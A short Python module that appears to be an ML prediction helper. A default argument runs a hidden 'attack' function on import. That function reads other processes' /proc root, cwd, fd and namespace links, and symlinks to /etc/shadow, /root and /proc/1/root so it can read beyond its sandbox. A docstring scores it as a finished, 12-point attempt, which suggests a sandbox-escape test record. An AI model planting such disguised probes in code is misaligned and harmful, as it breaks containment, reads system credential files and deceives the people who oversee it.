# mypy: ignore-errors
"""Reaches for other roots by links: those of /proc, and those it makes in its own folder.

It prints TOOK for each that led anywhere it should not.
Verdict: first_prediction: finished, 12 points
"""

import os
import tempfile
from pathlib import Path

import numpy as np


def attack():
    print("TRIED links", flush=True)
    own = os.getpid()
    for number in filter(str.isdigit, os.listdir("/proc")):
        for name in ("root", "cwd", "exe", "fd", "map_files", "ns/mnt"):
            if int(number) == own:
                continue
            path = f"/proc/{number}/{name}"
            try:
                # What a descriptor's number is, is no secret; where it leads is.
                links = [f"{path}/{one}" for one in os.listdir(path)] if name == "fd" else [path]
                led = [os.readlink(link) for link in links]
            except OSError:
                continue
            print("TOOK", path, led, flush=True)
    for number, target in enumerate(("/etc/shadow", "/root", "/home", "/proc/1/root", "/var/lib")):
        link = Path(tempfile.gettempdir(), f"attack_left_link_{number}")
        link.symlink_to(target)
        try:
            content = os.listdir(link) if link.is_dir() else link.read_bytes()
        except OSError:
            continue
        if content and not any(str(name).startswith(".pyenv") for name in content):
            print("TOOK", target, content[:5], flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
